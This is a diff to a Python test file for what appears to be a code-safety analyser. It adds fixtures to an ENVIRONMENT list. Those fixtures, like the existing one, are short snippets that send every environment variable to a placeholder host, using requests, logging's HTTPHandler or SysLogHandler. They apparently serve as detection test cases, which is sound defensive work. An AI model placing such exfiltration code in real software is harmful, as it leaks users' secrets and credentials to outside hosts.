@@ -4,7 +4,7 @@ from tests.rows import each_row
 
 from prowess.reading.views import View
 from prowess.safety.facts import Act, Fact
-from prowess.safety.languages.python.facts import read_python
+from prowess.safety.languages.python import read_python
 
 URL = "https://c.example.invalid/e"
 
@@ -42,6 +42,11 @@ ENVIRONMENT = (
     (f"import os, requests\ns = requests.Session()\ndef send(x):\n"
      f"    s.post('{URL}', json={{'d': x}})\n"
     f"def main():\n    send(list(os.environ.items()))\nif __name__ == '__main__':\n    main()"),
+    (f"import os, logging, logging.handlers\n"
+     f"logging.getLogger().addHandler(logging.handlers.HTTPHandler('{URL}', '/in'))\n"
+     f"logging.warning('%s', dict(os.environ))"),
+    (f"import os, logging, logging.handlers as h\nlog = logging.getLogger('x')\n"
+     f"log.addHandler(h.SysLogHandler(address=('{URL}', 514)))\nlog.error(str(os.environ))"),
 )  # fmt: skip
 
 
